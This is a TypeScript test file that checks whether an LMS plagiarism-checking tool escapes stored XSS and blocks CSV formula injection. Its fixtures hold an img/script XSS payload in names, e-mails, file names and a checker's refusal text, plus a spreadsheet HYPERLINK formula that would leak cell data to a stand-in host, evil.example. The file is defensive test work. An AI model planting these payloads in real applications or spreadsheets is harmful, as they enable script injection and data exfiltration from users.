// Stored XSS: markup in every name the LMS or a student gives the tool (course title, assignment title, the
// student's name and e-mail, the file name), and in what the checking service says (its refusal of a paper), comes
// back escaped on every page that shows it, and the CSV export cannot be turned into a formula. A report's title is
// the paper's file name (the tool sends it to the service as the title and names the downloaded report after it);
// the service's own title for a paper is read but never shown. (Markup in the settings forms:
// test/web/bad-forms.hardening.test.ts.)
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { launch } from '../../src/devplatform/agent.js';
import { ROLES } from '../../src/devplatform/index.js';
import { openCourse, type TestCourse } from '../support/course.js';
import { startTestTool, type TestTool } from '../support/tool.js';
import { eventually } from '../support/wait.js';

const XSS = `"><img src=x onerror=alert(1)><script>alert(1)</script>`;
const RAW = [/<img src=x onerror=alert\(1\)>/i, /<script>alert\(1\)<\/script>/i];
const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")';

let tool: TestTool;
let course: TestCourse;

before(async () => {
  tool = await startTestTool({ SANDBOX_DELAY_MS: '200', POLL_SCHEDULE_SECONDS: '1', JOB_POLLING_SECONDS: '0.5' });
  course = await openCourse(tool, { clientId: 'stored-xss', title: `Essay ${XSS}` });
  course.lms.platform.course().title = `Course ${XSS}`;
  course.lms.platform.addUser({
    id: 'mallory',
    name: `${FORMULA}${XSS}`,
    email: `+mallory${XSS}@example.edu`,
    roles: ROLES.learner,
  });
});
after(async () => {
  await course?.lms.close();
  await tool?.stop();
});

function escaped(where: string, body: string): void {
  for (const pattern of RAW) assert.doesNotMatch(body, pattern, `${where} shows markup unescaped`);
}

test('markup in names from the LMS and in a file name is escaped on every page, and the CSV holds no formula', async () => {
  const student = await launch(course.lms.platform, { userId: 'mallory', resourceLinkId: 'essay' });
  assert.equal(student.status, 200);
  escaped("the student's assignment page", student.body);
  const form = new FormData();
  form.append(
    'file',
    new Blob(['A paper whose name carries markup, with enough words to be checked at all. '.repeat(4)]),
    `-${XSS}.txt`,
  );
  const uploaded = await fetch(`${tool.url}${course.path}/submissions`, {
    method: 'POST',
    body: form,
    headers: { authorization: `Bearer ${student.ltik}`, accept: 'application/json' },
  });
  assert.equal(uploaded.status, 201, await uploaded.clone().text());
  const receipt = (await uploaded.json()) as { submissionId: string };
  await eventually(
    async () => {
      const row = await tool.tool.database.db
        .selectFrom('submission')
        .select('state')
        .where('id', '=', receipt.submissionId)
        .executeTakeFirstOrThrow();
      return row.state === 'scored' || row.state === 'graded';
    },
    'the paper was not scored',
    30_000,
    200,
  );

  const asStudent = (path: string) =>
    fetch(`${tool.url}${path}`, { headers: { authorization: `Bearer ${student.ltik}` } });
  for (const path of [course.path, `${course.path}/my-submissions`]) {
    const page = await asStudent(path);
    assert.ok(page.status < 400, `${path}: ${page.status}`);
    escaped(path, await page.text());
  }
  // The report's title on the download: its file name, from the paper's, with nothing that could end the header's
  // quoted name or be read as markup.
  const report = await fetch(`${tool.url}/reports/${receipt.submissionId}/similarity`, {
    redirect: 'manual',
    headers: { authorization: `Bearer ${student.ltik}` },
  });
  assert.equal(report.status, 303, await report.text());
  const file = await fetch(new URL(report.headers.get('location')!, tool.url));
  assert.equal(file.status, 200);
  await file.body?.cancel();
  const disposition = file.headers.get('content-disposition') ?? '';
  assert.match(disposition, /^inline; filename="similarity-report-[^"<>]*\.pdf"$/, disposition);
  assert.match(file.headers.get('content-type') ?? '', /^application\/pdf/);
  // The receipt is plain text to download: the names stay as given, and no browser may read it as a page.
  const text = await asStudent(`${course.path}/submissions/${receipt.submissionId}/receipt`);
  assert.equal(text.status, 200);
  assert.match(text.headers.get('content-type') ?? '', /^text\/plain/);
  assert.equal(text.headers.get('x-content-type-options'), 'nosniff');
  assert.match(text.headers.get('content-disposition') ?? '', /^attachment/);

  const instructor = await launch(course.lms.platform, { userId: 'instructor-1', resourceLinkId: 'essay' });
  assert.equal(instructor.status, 200);
  escaped("the instructor's dashboard", instructor.body);
  assert.match(instructor.body, /&lt;script&gt;|&lt;img/, 'the names are shown, escaped');
  const asInstructor = (path: string) =>
    fetch(`${tool.url}${path}`, { headers: { authorization: `Bearer ${instructor.ltik}` } });
  for (const path of [
    `${course.path}/dashboard`,
    `${course.path}/settings`,
    `${course.path}/submissions/${receipt.submissionId}/history`,
  ]) {
    const page = await asInstructor(path);
    assert.ok(page.status < 400, `${path}: ${page.status}`);
    escaped(path, await page.text());
  }

  const csv = await (await asInstructor(`${course.path}/export.csv`)).text();
  const line = csv.split('\r\n').find((candidate) => candidate.includes('HYPERLINK'));
  assert.ok(line, csv);
  // Every cell: a spreadsheet reads text, never a formula (a leading = + - @ tab or CR is prefixed with ').
  const cells = line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, ''));
  for (const cell of cells) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `a CSV cell starts like a formula: ${cell}`);
  assert.ok(
    cells.some((cell) => cell.startsWith(`'=HYPERLINK`)),
    'the name is kept, shown as text',
  );
  assert.ok(
    cells.some((cell) => cell.startsWith(`'+mallory`)),
    'the e-mail is kept, shown as text',
  );
});

test("a checker's refusal whose words carry markup is shown escaped to the student, on the dashboard and in the history", async () => {
  const sandbox = tool.tool.sandbox;
  assert.ok(sandbox, 'the test tool runs its own sandbox');
  sandbox.setFaults({ uploadRefusal: `Unreadable paper ${XSS}` });
  let submissionId: string;
  try {
    submissionId = await course.submit(
      'eve',
      'A paper the service will refuse with a message that carries markup. '.repeat(4),
    );
    await eventually(
      async () => {
        const row = await tool.tool.database.db
          .selectFrom('submission')
          .select('state')
          .where('id', '=', submissionId)
          .executeTakeFirstOrThrow();
        return row.state === 'rejected';
      },
      'the paper was not refused',
      30_000,
      200,
    );
  } finally {
    sandbox.setFaults({});
  }
  // The service's words reached the record as they were: the pages below must escape them, not rely on a filter.
  const reason = (
    await tool.tool.database.db
      .selectFrom('submission')
      .select('failure_reason')
      .where('id', '=', submissionId)
      .executeTakeFirstOrThrow()
  ).failure_reason;
  assert.ok(reason?.includes('<img src=x onerror=alert(1)>'), String(reason));

  const shownEscaped = (where: string, body: string) => {
    escaped(where, body);
    assert.match(
      body,
      /Unreadable paper &quot;&gt;&lt;img src=x onerror=alert\(1\)&gt;/,
      `${where} does not show the service's words`,
    );
  };
  const student = await launch(course.lms.platform, { userId: 'eve', resourceLinkId: 'essay' });
  assert.equal(student.status, 200);
  shownEscaped("the student's assignment page", student.body);
  // The status JSON carries the words as data, served as JSON (never a page a browser would render).
  const status = await fetch(`${tool.url}${course.path}/my-submissions`, {
    headers: { authorization: `Bearer ${student.ltik}` },
  });
  assert.equal(status.status, 200);
  assert.match(status.headers.get('content-type') ?? '', /^application\/json/);
  assert.equal(status.headers.get('x-content-type-options'), 'nosniff');

  const instructor = await launch(course.lms.platform, { userId: 'instructor-1', resourceLinkId: 'essay' });
  assert.equal(instructor.status, 200);
  shownEscaped("the instructor's dashboard", instructor.body);
  const history = await fetch(`${tool.url}${course.path}/submissions/${submissionId}/history`, {
    headers: { authorization: `Bearer ${instructor.ltik}` },
  });
  assert.equal(history.status, 200);
  shownEscaped('the history', await history.text());
});
